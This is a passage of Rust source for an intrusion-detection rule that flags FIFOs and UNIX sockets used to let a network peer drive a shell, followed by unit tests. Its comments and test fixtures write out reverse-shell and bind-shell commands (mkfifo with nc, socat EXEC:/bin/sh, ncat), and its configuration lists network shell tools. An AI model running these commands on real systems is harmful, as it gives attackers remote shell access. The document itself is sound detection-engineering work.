        main_pid: Option<i64>,
    ) -> Alert {
        let mut evidence: Vec<(i64, &'static str, i64, &Event)> = Vec::new();
        for p in &ch.parts {
            evidence.push((p.event.timestamp_ns, p.role.name(), p.pid, &p.event));
        }
        for (role, pid, ev) in extra {
            if let Some(ev) = ev {
                evidence.push((ev.timestamp_ns, role, *pid, ev));
            }
        }
        evidence.sort_by_key(|(ts, _, pid, _)| (*ts, *pid));
        evidence.truncate(MAX_EVIDENCE);
        let first = evidence.iter().map(|e| e.0).min().unwrap_or(ch.first_ns);
        let last = evidence.iter().map(|e| e.0).max().unwrap_or(ch.last_ns);
        let docs = evidence
            .iter()
            .map(|(_, role, pid, ev)| {
                let mut doc = evidence_json(ev);
                let lineage = Self::lineage(h, *pid);
                let image = h.procs.get(pid).map(|p| p.shown());
                if let serde_json::Value::Object(map) = &mut doc {
                    let sensor = map
                        .entry("sensor")
                        .or_insert_with(|| serde_json::Value::Object(serde_json::Map::new()));
                    if let serde_json::Value::Object(s) = sensor {
                        let mut ipc = serde_json::Map::new();
                        ipc.insert("role".into(), serde_json::json!(role));
                        ipc.insert("path".into(), serde_json::json!(path));
                        ipc.insert("pid".into(), serde_json::json!(pid));
                        if let Some(i) = image {
                            ipc.insert("process".into(), serde_json::json!(i));
                        }
                        ipc.insert("lineage".into(), serde_json::json!(lineage));
                        s.insert("ipc".into(), serde_json::Value::Object(ipc));
                    }
                }
                doc
            })
            .collect();
        let main = main_pid.and_then(|p| h.procs.get(&p));
        let any_ev = ch.parts.first().map(|p| &p.event);
        let host_name = any_ev
            .and_then(|e| text(e, F.host_name))
            .or_else(|| Some(host.to_string()).filter(|h| !h.is_empty()));
        let user = main_pid
            .and_then(|pid| ch.parts.iter().find(|p| p.pid == pid).map(|p| &p.event))
            .or(any_ev)
            .and_then(|e| text(e, F.user_name).or_else(|| text(e, F.user_id)));
        Alert {
            rule_id: self.cfg.id.clone(),
            rule_name: self.cfg.id.clone(),
            severity,
            risk_score: match severity {
                Severity::Low => 21,
                Severity::Medium => 47,
                Severity::High => 73,
                Severity::Critical => 99,
            },
            attack: AttackRef::default(),
            timestamp_ns: last,
            first_event_ns: first,
            join_keys: vec![serde_json::json!(host), serde_json::json!(path)],
            host: host_name,
            user,
            process: main.and_then(|p| p.exe.clone().or_else(|| p.name.clone())),
            settings: serde_json::Map::new(),
            reason,
            evidence: docs,
        }
    }

    fn evaluate(&mut self, host: &str, key: &(Kind, String), now: i64, out: &mut Vec<Alert>) {
        let Some(h) = self.hosts.get(host) else {
            return;
        };
        let Some(ch) = h.channels.get(key) else {
            return;
        };
        if ch.high_sent {
            return;
        }
        let (verdict, related) = self.verdict(h, ch, now);
        let mut fired = false;
        if let Some(v) = verdict {
            let kind = match ch.kind {
                Kind::Fifo => "FIFO",
                Kind::Socket => "UNIX socket",
            };
            let shell = Self::who(h, v.shell.pid);
            let driver = Self::who(h, v.driver.pid);
            let mut reason = format!(
                "{kind} {} lets {} drive a shell: {shell} {}; {driver} {} and {}. The {kind} was {}. Lineage: {}",
                key.1,
                v.kind_word,
                Self::relation(h, ch, &v.shell),
                Self::relation(h, ch, &v.driver),
                v.why,
                Self::participants_text(h, ch),
                Self::lineage_text(
                    h,
                    &ch.parts
                        .iter()
                        .map(|p| p.pid)
                        .chain([v.shell.pid, v.driver.pid])
                        .collect::<Vec<_>>()
                ),
            );
            if reason.len() > 4000 {
                reason.truncate(reason.floor_char_boundary(4000));
            }
            let sp = h.procs.get(&v.shell.pid);
            let dp = h.procs.get(&v.driver.pid);
            let extra = [
                ("shell", v.shell.pid, sp.and_then(|p| p.exec.as_ref())),
                ("driver", v.driver.pid, dp.and_then(|p| p.exec.as_ref())),
                ("network", v.driver.pid, dp.and_then(|p| p.net.as_ref())),
            ];
            out.push(self.alert(
                h,
                host,
                &key.1,
                ch,
                self.cfg.wired_severity,
                reason,
                &extra,
                Some(v.shell.pid),
            ));
            fired = true;
        }
        if let Some(ch) = self
            .hosts
            .get_mut(host)
            .and_then(|h| h.channels.get_mut(key))
        {
            ch.related = related;
            if fired {
                ch.high_sent = true;
            }
        }
    }

    fn mark(&mut self, host: &str, key: &(Kind, String), now: i64) {
        if let Some(c) = self
            .hosts
            .get_mut(host)
            .and_then(|h| h.channels.get_mut(key))
        {
            c.eval_ns = c.eval_ns.max(now);
            c.settled_checked = false;
        }
    }

    fn low_alert(&self, host: &str, key: &(Kind, String), now: i64) -> Option<Alert> {
        let sev = self.cfg.unwired_severity?;
        let h = self.hosts.get(host)?;
        let ch = h.channels.get(key)?;
        let inputs: Vec<&Part> = ch
            .parts
            .iter()
            .filter(|p| matches!(p.role, Role::Read | Role::ReadWrite | Role::Named))
            .collect();
        let shell = self
            .side(h, &inputs, self.cfg.pipeline_span_ns, true)
            .into_iter()
            .find(|m| h.procs.get(&m.pid).is_some_and(|p| self.is_shell(p, now)));
        let shell_note = match shell {
            Some(m) => format!(
                " The shell or interpreter {} takes input from it, but nothing feeding it made a network connection, runs from a writable directory or is a network tool.",
                Self::who(h, m.pid)
            ),
            None => " No shell or interpreter is driven through it, and nothing feeding it made a network connection or runs from a writable directory.".to_string(),
        };
        let reason = format!(
            "FIFO {} passes data between local processes: {}.{shell_note} Lineage: {}",
            key.1,
            Self::participants_text(h, ch),
            Self::lineage_text(h, &ch.parts.iter().map(|p| p.pid).collect::<Vec<_>>()),
        );
        let main = inputs
            .first()
            .map(|p| p.pid)
            .or(ch.parts.first().map(|p| p.pid));
        Some(self.alert(h, host, &key.1, ch, sev, reason, &[], main))
    }
}

impl Detector for IpcWiring {
    fn id(&self) -> &str {
        &self.cfg.id
    }

    fn sets_severity(&self) -> bool {
        true
    }

    fn on_event(&mut self, event: &Event, out: &mut Vec<Alert>) {
        let kind = if (self.cfg.fifo_events)(event) {
            Some(Kind::Fifo)
        } else if (self.cfg.socket_events)(event) {
            Some(Kind::Socket)
        } else {
            None
        };
        let is_proc = kind.is_none() && (self.cfg.process_events)(event);
        let is_net = kind.is_none() && !is_proc && (self.cfg.network_events)(event);
        if kind.is_none() && !is_proc && !is_net {
            return;
        }
        let host = Self::host_key(event);
        let now = event.timestamp_ns;
        let f = &*F;
        let mut touched: Vec<i64> = Vec::new();
        let mut named = Vec::new();
        if is_proc {
            touched = self.on_process(&host, event, now);
            let action = text(event, f.action).unwrap_or_default();
            if !matches!(action.as_str(), "fork" | "clone" | "clone3" | "vfork") {
                named = self.named_on_command_line(&host, event, now, out);
            }
        } else if let Some(pid) = int(event, f.pid) {
            self.touch(&host, pid, event, now);
            touched.push(pid);
            if is_net {
                if let Some(p) = self
                    .hosts
                    .get_mut(&host)
                    .and_then(|h| h.procs.get_mut(&pid))
                {
                    if p.net.is_none() {
                        p.net = Some(event.clone());
                    }
                }
            }
        } else {
            return;
        }
        if let Some(kind) = kind {
            if let Some(key) = self.on_channel_event(&host, kind, event, now, out) {
                self.mark(&host, &key, now);
                self.evaluate(&host, &key, now, out);
            }
            return;
        }
        // A process or network event: re-judge the channels it may belong to.
        let Some(h) = self.hosts.get(&host) else {
            return;
        };
        let mut probe = touched.clone();
        for pid in &touched {
            if let Some(pp) = h.procs.get(pid).and_then(|p| p.ppid) {
                probe.push(pp);
            }
        }
        let mut keys: Vec<(Kind, String)> = h
            .channels
            .iter()
            .filter(|(_, c)| !c.high_sent && probe.iter().any(|p| c.related.contains(p)))
            .map(|(k, _)| k.clone())
            .collect();
        for k in named {
            if !keys.contains(&k) {
                keys.push(k);
            }
        }
        for key in keys {
            self.mark(&host, &key, now);
            self.evaluate(&host, &key, now, out);
        }
    }

    fn on_watermark(&mut self, now_ns: i64, out: &mut Vec<Alert>) {
        // Undecided channels: a forked subshell may have settled; FIFOs past the decision delay that
        // are still not wired get their low alert.
        let settle = self.cfg.pipeline_span_ns.saturating_mul(3);
        let mut todo: Vec<(String, (Kind, String), bool)> = Vec::new();
        for (host, h) in &self.hosts {
            for (k, c) in &h.channels {
                let due_low = c.kind == Kind::Fifo
                    && !c.low_sent
                    && now_ns >= c.first_ns.saturating_add(self.cfg.decision_delay_ns);
                let recent = !c.settled_checked;
                if !c.high_sent && (recent || due_low) {
                    todo.push((host.clone(), k.clone(), recent));
                }
            }
        }
        for (host, key, recent) in todo {
            if recent {
                self.evaluate(&host, &key, now_ns, out);
                if let Some(c) = self
                    .hosts
                    .get_mut(&host)
                    .and_then(|h| h.channels.get_mut(&key))
                {
                    if now_ns.saturating_sub(c.eval_ns) > settle {
                        c.settled_checked = true;
                    }
                }
            }
            let due = self
                .hosts
                .get(&host)
                .and_then(|h| h.channels.get(&key))
                .is_some_and(|c| {
                    c.kind == Kind::Fifo
                        && !c.high_sent
                        && !c.low_sent
                        && now_ns >= c.first_ns.saturating_add(self.cfg.decision_delay_ns)
                });
            if due {
                if let Some(a) = self.low_alert(&host, &key, now_ns) {
                    out.push(a);
                }
                if let Some(c) = self
                    .hosts
                    .get_mut(&host)
                    .and_then(|h| h.channels.get_mut(&key))
                {
                    c.low_sent = true;
                }
            }
        }
        let horizon = now_ns.saturating_sub(self.cfg.window_ns);
        let mut removed = 0usize;
        for h in self.hosts.values_mut() {
            h.channels.retain(|_, c| c.last_ns >= horizon);
            let old: Vec<i64> = h
                .procs
                .iter()
                .filter(|(_, p)| p.last_ns < horizon)
                .map(|(pid, _)| *pid)
                .collect();
            for pid in old {
                if let Some(p) = h.procs.remove(&pid) {
                    removed += 1;
                    if let Some(pp) = p.ppid {
                        if let Some(c) = h.children.get_mut(&pp) {
                            c.remove(&pid);
                        }
                    }
                }
            }
            h.children.retain(|_, c| !c.is_empty());
        }
        self.procs -= removed;
        self.hosts
            .retain(|_, h| !h.procs.is_empty() || !h.channels.is_empty());
    }

    fn pending(&self) -> usize {
        self.hosts
            .values()
            .map(|h| h.channels.values().filter(|c| !c.high_sent).count())
            .sum()
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;
    use crate::detect::filter;
    use serde_json::json;

    const MS: i64 = 1_000_000;
    const S: i64 = 1_000_000_000;
    const T0: i64 = 1_780_000_000 * S;

    fn list(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| (*s).to_string()).collect()
    }

    fn cats(e: &Event, c: &str) -> bool {
        has(e, Field::intern("event.category"), c)
    }

    fn action_in(e: &Event, a: &[&str]) -> bool {
        text(e, F.action).is_some_and(|x| a.contains(&x.as_str()))
    }

    fn det() -> IpcWiring {
        let shared = |e: &Event, f: &str| {
            text(e, Field::intern(f)).is_some_and(|p| {
                ["/tmp/*", "/dev/shm/*", "/var/tmp/*"]
                    .iter()
                    .any(|g| glob_match(g, &p, false))
            })
        };
        IpcWiring::new(WiringConfig {
            id: "w".into(),
            fifo_events: filter(move |e| {
                (has(e, Field::intern("file.type"), "fifo")
                    || action_in(e, &["fifo_create", "fifo_open"]))
                    && shared(e, "file.path")
            }),
            socket_events: filter(move |e| {
                action_in(e, &["unix_bind", "unix_connect", "bind", "connect"])
                    && shared(e, "socket.path")
            }),
            process_events: filter(|e| {
                cats(e, "process") && (has(e, F.etype, "start") || action_in(e, &["fork", "clone"]))
            }),
            network_events: filter(|e| {
                action_in(e, &["tcp_connect", "tcp_accept", "connect", "accept"])
                    && (e.get(F.dst_ip).is_some() || e.get(F.src_ip).is_some())
            }),
            shells: list(&["sh", "bash", "dash", "python3*"]),
            network_tools: list(&["nc", "ncat", "socat"]),
            writable_dirs: list(&["/tmp/*", "/dev/shm/*", "/var/tmp/*"]),
            shared_dirs: list(&["/tmp/*", "/dev/shm/*", "/var/tmp/*"]),
            ignored_paths: list(&["/tmp/.X11-unix/*"]),
            window_ns: 600 * S,
            pipeline_span_ns: S,
            decision_delay_ns: 30 * S,
            wired_severity: Severity::High,
            unwired_severity: Some(Severity::Low),
        })
    }

    fn ev(t_ms: i64, doc: serde_json::Value) -> Event {
        let mut d = doc;
        d["host"] = json!({"id": "h1", "name": "lab"});
        let mut e = Event::from_json(&d).unwrap();
        e.timestamp_ns = T0 + t_ms * MS;
        e
    }

    fn fork(t: i64, pid: i64, ppid: i64, parent_exe: &str) -> Event {
        ev(
            t,
            json!({"event": {"category": ["process"], "type": ["start"], "action": "fork"},
                "process": {"pid": pid, "executable": parent_exe, "parent": {"pid": ppid}}}),
        )
    }

    fn exec(t: i64, pid: i64, ppid: i64, exe: &str, args: &[&str]) -> Event {
        ev(
            t,
            json!({"event": {"category": ["process"], "type": ["start"], "action": "exec"},
                "process": {"pid": pid, "executable": exe, "name": basename(exe), "args": args,
                    "parent": {"pid": ppid, "name": "bash"}}}),
        )
    }

    fn fifo(t: i64, pid: i64, exe: &str, action: &str, mode: Option<&str>, path: &str) -> Event {
        let mut file = json!({"path": path, "type": "fifo"});
        if let Some(m) = mode {
            file["access_mode"] = json!(m);
        }
        ev(
            t,
            json!({"event": {"category": ["file"], "action": action}, "file": file,
                "process": {"pid": pid, "executable": exe}}),
        )
    }

    fn tcp(t: i64, pid: i64, exe: &str, action: &str) -> Event {
        let dir = if action == "tcp_accept" {
            "ingress"
        } else {
            "egress"
        };
        let (src, dst) = if action == "tcp_accept" {
            (("10.9.9.9", 51000), ("10.0.0.5", 4444))
        } else {
            (("10.0.0.5", 51000), ("127.0.0.1", 4444))
        };
        ev(
            t,
            json!({"event": {"category": ["network"], "action": action},
                "network": {"transport": "tcp", "direction": dir},
                "source": {"ip": src.0, "port": src.1}, "destination": {"ip": dst.0, "port": dst.1},
                "process": {"pid": pid, "executable": exe}}),
        )
    }

    fn unix(t: i64, pid: i64, exe: &str, action: &str, path: &str) -> Event {
        ev(
            t,
            json!({"event": {"category": ["network"], "action": action},
                "network": {"transport": "unix"}, "socket": {"family": "AF_UNIX", "path": path},
                "process": {"pid": pid, "executable": exe}}),
        )
    }

    fn run(d: &mut IpcWiring, evs: &[Event]) -> Vec<Alert> {
        let mut out = Vec::new();
        for e in evs {
            d.on_event(e, &mut out);
            d.on_watermark(e.timestamp_ns, &mut out);
        }
        out
    }

    fn roles(a: &Alert) -> Vec<(String, i64)> {
        a.evidence
            .iter()
            .map(|d| {
                (
                    d["sensor"]["ipc"]["role"].as_str().unwrap().to_string(),
                    d["sensor"]["ipc"]["pid"].as_i64().unwrap(),
                )
            })
            .collect()
    }

    /// `sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f'` as the kernel
    /// sensor shows it: forks first, `nc`'s redirection opened by its forked shell before the exec.
    fn classic(net: &str) -> Vec<Event> {
        vec![
            exec(
                0,
                100,
                90,
                "/usr/bin/dash",
                &["sh", "-c", "mkfifo /tmp/f; ..."],
            ),
            fork(1, 101, 100, "/usr/bin/dash"),
            exec(2, 101, 100, "/usr/bin/mkfifo", &["mkfifo", "/tmp/f"]),
            fifo(3, 101, "/usr/bin/mkfifo", "fifo_create", None, "/tmp/f"),
            fork(5, 102, 100, "/usr/bin/dash"),
            fork(6, 103, 100, "/usr/bin/dash"),
            fork(7, 104, 100, "/usr/bin/dash"),
            exec(8, 102, 100, "/usr/bin/cat", &["cat", "/tmp/f"]),
            exec(9, 103, 100, "/usr/bin/dash", &["sh", "-i"]),
            fifo(10, 102, "/usr/bin/cat", "fifo_open", Some("read"), "/tmp/f"),
            fifo(
                10,
                104,
                "/usr/bin/dash",
                "fifo_open",
                Some("write"),
                "/tmp/f",
            ),
            exec(11, 104, 100, "/usr/bin/nc", &["nc", "127.0.0.1", "4444"]),
            tcp(12, 104, "/usr/bin/nc", net),
        ]
    }

    #[test]
    fn classic_fifo_reverse_shell_is_high_with_every_process_named() {
        let mut d = det();
        let out = run(&mut d, &classic("tcp_connect"));
        assert_eq!(out.len(), 1, "{out:#?}");
        let a = &out[0];
        assert_eq!(a.severity, Severity::High);
        assert_eq!(a.risk_score, 73);
        let r = &a.reason;
        for want in [
            "FIFO /tmp/f lets a network peer drive a shell",
            "`sh -i` [103] sits in one pipeline with `cat /tmp/f` [102], which reads it",
            "`nc 127.0.0.1 4444` [104] writes it and connected to 127.0.0.1:4444",
            "created by `mkfifo /tmp/f` [101]",
            "cat[102] <- dash[100] <- bash[90]",
        ] {
            assert!(r.contains(want), "missing {want:?} in {r}");
        }
        let rs = roles(a);
        for want in [
            ("creator", 101),
            ("reader", 102),
            ("writer", 104),
            ("shell", 103),
            ("driver", 104),
            ("network", 104),
        ] {
            assert!(rs.contains(&(want.0.to_string(), want.1)), "{rs:?}");
        }
        let writer = a
            .evidence
            .iter()
            .find(|d| d["sensor"]["ipc"]["role"] == "writer")
            .unwrap();
        // Opened by the forked shell, shown with what it became.
        assert_eq!(writer["process"]["executable"], "/usr/bin/dash");
        assert_eq!(writer["sensor"]["ipc"]["process"], "nc 127.0.0.1 4444");
        assert_eq!(
            writer["sensor"]["ipc"]["lineage"],
            json!(["nc[104]", "dash[100]", "bash[90]"])
        );
        assert_eq!(a.join_keys, vec![json!("h1"), json!("/tmp/f")]);
        assert_eq!(a.process.as_deref(), Some("/usr/bin/dash"));
        // Nothing more later, not even the low alert.
        let mut more = Vec::new();
        d.on_watermark(T0 + 100 * S, &mut more);
        assert!(more.is_empty(), "{more:#?}");
    }

    #[test]
    fn bind_shell_with_accepted_connection_is_high() {
        let mut evs = classic("tcp_accept");
        evs[11] = exec(11, 104, 100, "/usr/bin/nc", &["nc", "-l", "-p", "4444"]);
        let out = run(&mut det(), &evs);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert!(
            out[0]
                .reason
                .contains("accepted a connection from 10.9.9.9:51000"),
            "{}",
            out[0].reason
        );
    }

    #[test]
    fn network_tool_by_name_waits_for_its_connection_then_fires_alone() {
        let evs = &classic("tcp_connect")[..12];
        let mut d = det();
        let out = run(&mut d, evs);
        assert!(
            out.is_empty(),
            "fired before the tool could connect: {out:#?}"
        );
        let mut out = Vec::new();
        d.on_watermark(T0 + 2 * S, &mut out);
        assert_eq!(out.len(), 1);
        assert!(
            out[0].reason.contains("is the network tool nc"),
            "{}",
            out[0].reason
        );
    }

    #[test]
    fn shell_reading_the_fifo_directly_from_a_writable_dir_driver() {
        // `/tmp/.x/agent > /tmp/p & sh < /tmp/p`
        let evs = vec![
            exec(0, 200, 1, "/usr/bin/bash", &["bash"]),
            fifo(1, 200, "/usr/bin/bash", "fifo_create", None, "/tmp/p"),
            fork(2, 201, 200, "/usr/bin/bash"),
            fork(3, 202, 200, "/usr/bin/bash"),
            exec(4, 201, 200, "/tmp/.x/agent", &["/tmp/.x/agent"]),
            fifo(5, 202, "/usr/bin/bash", "fifo_open", Some("read"), "/tmp/p"),
            fifo(
                5,
                201,
                "/tmp/.x/agent",
                "fifo_open",
                Some("write"),
                "/tmp/p",
            ),
            exec(6, 202, 200, "/usr/bin/bash", &["sh"]),
        ];
        let out = run(&mut det(), &evs);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert!(
            out[0]
                .reason
                .contains("lets a program run from a writable directory drive a shell"),
            "{}",
            out[0].reason
        );
        assert!(
            out[0].reason.contains("`sh` [202] reads it"),
            "{}",
            out[0].reason
        );
    }

    /// `mkfifo /tmp/p; seq 1000 > /tmp/p & wc -l < /tmp/p`
    fn script(consumer: (&str, &[&str])) -> Vec<Event> {
        vec![
            exec(0, 300, 1, "/usr/bin/bash", &["bash", "build.sh"]),
            fork(1, 301, 300, "/usr/bin/bash"),
            exec(2, 301, 300, "/usr/bin/mkfifo", &["mkfifo", "/tmp/p"]),
            fifo(3, 301, "/usr/bin/mkfifo", "fifo_create", None, "/tmp/p"),
            fork(5, 302, 300, "/usr/bin/bash"),
            fork(6, 303, 300, "/usr/bin/bash"),
            exec(7, 302, 300, "/usr/bin/seq", &["seq", "1000"]),
            exec(8, 303, 300, consumer.0, consumer.1),
            fifo(9, 302, "/usr/bin/seq", "fifo_open", Some("write"), "/tmp/p"),
            fifo(9, 303, consumer.0, "fifo_open", Some("read"), "/tmp/p"),
        ]
    }

    #[test]
    fn script_fifo_is_low_once_after_the_decision_delay() {
        let mut d = det();
        let out = run(&mut d, &script(("/usr/bin/wc", &["wc", "-l"])));
        assert!(out.is_empty(), "{out:#?}");
        let mut out = Vec::new();
        d.on_watermark(T0 + 29 * S, &mut out);
        assert!(out.is_empty());
        d.on_watermark(T0 + 31 * S, &mut out);
        d.on_watermark(T0 + 40 * S, &mut out);
        assert_eq!(out.len(), 1, "{out:#?}");
        let a = &out[0];
        assert_eq!(a.severity, Severity::Low);
        assert_eq!(a.risk_score, 21);
        for want in [
            "FIFO /tmp/p passes data between local processes",
            "created by `mkfifo /tmp/p` [301]",
            "written by `seq 1000` [302]",
            "read by `wc -l` [303]",
            "No shell or interpreter is driven through it",
            "seq[302] <- bash[300]",
        ] {
            assert!(a.reason.contains(want), "missing {want:?} in {}", a.reason);
        }
        // Its timestamp is the channel's last event, not the watermark: replay equals live.
        assert_eq!(a.timestamp_ns, T0 + 9 * MS);
        let rs = roles(a);
        assert!(rs.contains(&("writer".into(), 302)) && rs.contains(&("reader".into(), 303)));
    }

    #[test]
    fn script_fifo_read_by_a_shell_without_a_driver_stays_low() {
        let mut d = det();
        let mut out = run(&mut d, &script(("/usr/bin/bash", &["bash", "consume.sh"])));
        d.on_watermark(T0 + 60 * S, &mut out);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert_eq!(out[0].severity, Severity::Low);
        assert!(
            out[0]
                .reason
                .contains("The shell or interpreter `bash consume.sh` [303] takes input from it"),
            "{}",
            out[0].reason
        );
    }

    #[test]
    fn unwired_fifos_can_be_silenced() {
        let mut d = det();
        d.cfg.unwired_severity = None;
        let mut out = run(&mut d, &script(("/usr/bin/wc", &["wc", "-l"])));
        d.on_watermark(T0 + 60 * S, &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn unix_socket_relay_to_a_spawned_shell_is_high() {
        // socat UNIX-LISTEN:/tmp/s EXEC:/bin/sh ; socat TCP:127.0.0.1:4444 UNIX-CONNECT:/tmp/s
        let evs = vec![
            exec(
                0,
                400,
                1,
                "/usr/bin/socat",
                &["socat", "UNIX-LISTEN:/tmp/s", "EXEC:/bin/sh"],
            ),
            unix(1, 400, "/usr/bin/socat", "unix_bind", "/tmp/s"),
            exec(
                50,
                402,
                1,
                "/usr/bin/socat",
                &["socat", "TCP:127.0.0.1:4444", "UNIX-CONNECT:/tmp/s"],
            ),
            tcp(51, 402, "/usr/bin/socat", "tcp_connect"),
            unix(52, 402, "/usr/bin/socat", "unix_connect", "/tmp/s"),
            fork(53, 401, 400, "/usr/bin/socat"),
            exec(54, 401, 400, "/bin/sh", &["sh"]),
        ];
        let out = run(&mut det(), &evs);
        assert_eq!(out.len(), 1, "{out:#?}");
        let r = &out[0].reason;
        assert!(
            r.starts_with("UNIX socket /tmp/s lets a network peer drive a shell"),
            "{r}"
        );
        assert!(r.contains("`sh` [401] was started by `socat UNIX-LISTEN:/tmp/s EXEC:/bin/sh` [400], which bound it"), "{r}");
        assert!(
            r.contains("connected to it and connected to 127.0.0.1:4444"),
            "{r}"
        );
        let rs = roles(&out[0]);
        assert!(rs.contains(&("binder".into(), 400)) && rs.contains(&("connector".into(), 402)));
    }

    #[test]
    fn unix_socket_between_local_tools_is_silent() {
        // tmux-like: a server binds, its children are shells, a local client connects.
        let evs = vec![
            exec(0, 500, 1, "/usr/bin/tmux", &["tmux"]),
            unix(1, 500, "/usr/bin/tmux", "unix_bind", "/tmp/tmux-0/default"),
            fork(2, 501, 500, "/usr/bin/tmux"),
            exec(3, 501, 500, "/usr/bin/bash", &["-bash"]),
            exec(10, 510, 1, "/usr/bin/tmux", &["tmux", "attach"]),
            unix(
                11,
                510,
                "/usr/bin/tmux",
                "unix_connect",
                "/tmp/tmux-0/default",
            ),
        ];
        let mut d = det();
        let mut out = run(&mut d, &evs);
        d.on_watermark(T0 + 120 * S, &mut out);
        assert!(out.is_empty(), "{out:#?}");
    }

    #[test]
    fn children_of_a_non_shell_parent_are_not_a_pipeline() {
        // A program (not a shell) runs a daemon with its control socket in /tmp, a client of it and,
        // at the same moment, a shell script of its own; it has network activity itself.
        let mut evs = vec![
            exec(0, 700, 1, "/opt/ci/runner", &["runner"]),
            tcp(1, 700, "/opt/ci/runner", "tcp_accept"),
            fork(2, 701, 700, "/opt/ci/runner"),
            exec(3, 701, 700, "/usr/bin/sensor", &["sensor", "run"]),
            unix(
                4,
                701,
                "/usr/bin/sensor",
                "unix_bind",
                "/tmp/ctl/control.sock",
            ),
            fork(5, 702, 700, "/opt/ci/runner"),
            exec(6, 702, 700, "/usr/bin/dash", &["sh", "-c", "make test"]),
            fork(7, 703, 700, "/opt/ci/runner"),
            exec(
                8,
                703,
                700,
                "/usr/bin/sensor",
                &["sensor", "alerts", "list"],
            ),
            unix(
                9,
                703,
                "/usr/bin/sensor",
                "unix_connect",
                "/tmp/ctl/control.sock",
            ),
        ];
        for e in &mut evs {
            e.set(F.pname, Value::Str("runner".into()));
        }
        let mut d = det();
        let mut out = run(&mut d, &evs);
        d.on_watermark(T0 + 120 * S, &mut out);
        assert!(out.is_empty(), "{out:#?}");
    }

    #[test]
    fn auditd_shape_clone_execve_openat_connect() {
        // auditd: the caller's clone names the child in its exit value; execve carries ppid; openat
        // carries the access mode (decoder); connect carries the peer in destination.*.
        let clone = |t: i64, pid: i64, child: i64| {
            ev(
                t,
                json!({"event": {"category": ["process"], "action": "clone"},
                "auditd": {"log": {"exit": child.to_string()}},
                "process": {"pid": pid, "executable": "/usr/bin/bash", "name": "bash", "parent": {"pid": 1}}}),
            )
        };
        let execve = |t: i64, pid: i64, exe: &str, args: &[&str]| {
            ev(
                t,
                json!({"event": {"category": ["process"], "type": ["start"], "action": "execve"},
                "process": {"pid": pid, "executable": exe, "args": args, "parent": {"pid": 600}}}),
            )
        };
        let openat = |t: i64, pid: i64, exe: &str, mode: &str| {
            ev(
                t,
                json!({"event": {"category": ["file"], "type": ["access"], "action": "openat"},
                "file": {"path": "/tmp/f", "type": "fifo", "access_mode": mode},
                "process": {"pid": pid, "executable": exe, "parent": {"pid": 600}}}),
            )
        };
        let evs = vec![
            clone(0, 600, 601),
            clone(1, 600, 602),
            execve(2, 601, "/usr/bin/cat", &["cat", "/tmp/f"]),
            execve(2, 602, "/usr/bin/bash", &["bash", "-i"]),
            clone(3, 600, 603),
            openat(4, 601, "/usr/bin/cat", "read"),
            openat(4, 603, "/usr/bin/bash", "write"),
            execve(5, 603, "/usr/bin/ncat", &["ncat", "10.1.1.1", "443"]),
            ev(
                6,
                json!({"event": {"category": ["network"], "action": "connect", "outcome": "failure"},
                "destination": {"ip": "10.1.1.1", "port": 443},
                "process": {"pid": 603, "executable": "/usr/bin/ncat", "parent": {"pid": 600}}}),
            ),
        ];
        let out = run(&mut det(), &evs);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert!(
            out[0]
                .reason
                .contains("`bash -i` [602] sits in one pipeline with `cat /tmp/f` [601]"),
            "{}",
            out[0].reason
        );
        assert!(
            out[0].reason.contains("connected to 10.1.1.1:443"),
            "{}",
            out[0].reason
        );
    }

    #[test]
    fn execve_only_records_name_the_fifo_on_command_lines() {
        // The most common audit setup records execve alone: no FIFO, clone or connect records, no
        // parent names. The pipeline is still there in the command lines and parent pids.
        let execve = |t: i64, pid: i64, exe: &str, args: &[&str]| {
            ev(
                t,
                json!({"event": {"category": ["process"], "type": ["start"], "action": "execve"},
                "process": {"pid": pid, "executable": exe, "args": args, "parent": {"pid": 899}}}),
            )
        };
        let evs = vec![
            execve(0, 900, "/usr/bin/mkfifo", &["mkfifo", "/tmp/f"]),
            execve(30, 901, "/usr/bin/cat", &["cat", "/tmp/f"]),
            execve(31, 902, "/usr/bin/bash", &["bash", "-i"]),
            execve(32, 903, "/usr/bin/nc.openbsd", &["nc", "10.0.0.9", "4444"]),
            execve(2_000, 950, "/usr/bin/ls", &["ls"]),
        ];
        let out = run(&mut det(), &evs);
        assert_eq!(out.len(), 1, "{out:#?}");
        let r = &out[0].reason;
        assert_eq!(out[0].severity, Severity::High);
        for want in [
            "FIFO /tmp/f lets a network tool drive a shell",
            "`bash -i` [902] sits in one pipeline with `cat /tmp/f` [901], which names it on its command line",
            "`nc 10.0.0.9 4444` [903] sits in one pipeline with `cat /tmp/f` [901]",
            "is the network tool nc (its connection was not seen)",
            "created by `mkfifo /tmp/f` [900]",
        ] {
            assert!(r.contains(want), "missing {want:?} in {r}");
        }
        // A script naming its FIFO with nothing network-facing around it stays low.
        let evs = vec![
            execve(0, 910, "/usr/bin/mkfifo", &["mkfifo", "/tmp/q"]),
            execve(30, 911, "/usr/bin/gzip", &["gzip", "-c", "/tmp/q"]),
            execve(31, 912, "/usr/bin/tar", &["tar", "cf", "/tmp/q", "src"]),
            execve(40_000, 950, "/usr/bin/ls", &["ls"]),
        ];
        let out = run(&mut det(), &evs);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert_eq!(out[0].severity, Severity::Low);
    }

    #[test]
    fn bounded_and_deterministic() {
        let mut evs = Vec::new();
        for i in 0..2_000i64 {
            evs.push(fifo(
                i,
                10_000 + i,
                "/usr/bin/x",
                "fifo_create",
                None,
                &format!("/tmp/q{i}"),
            ));
        }
        let feed = |d: &mut IpcWiring| {
            let mut out = Vec::new();
            for (i, e) in evs.iter().enumerate() {
                d.on_event(e, &mut out);
                if i % 100 == 0 {
                    d.on_watermark(e.timestamp_ns + 31 * S, &mut out);
                }
            }
            out
        };
        let mut d = det();
        let out = feed(&mut d);
        assert!(d.hosts["h1"].channels.len() <= MAX_CHANNELS_PER_HOST);
        assert!(d.dropped_channels > 0);
        assert!(!out.is_empty() && out.iter().all(|a| a.severity == Severity::Low));
        // Every FIFO gets its low alert once: when due, or when evicted undecided.
        let mut paths: Vec<String> = out.iter().map(|a| a.join_keys[1].to_string()).collect();
        paths.sort();
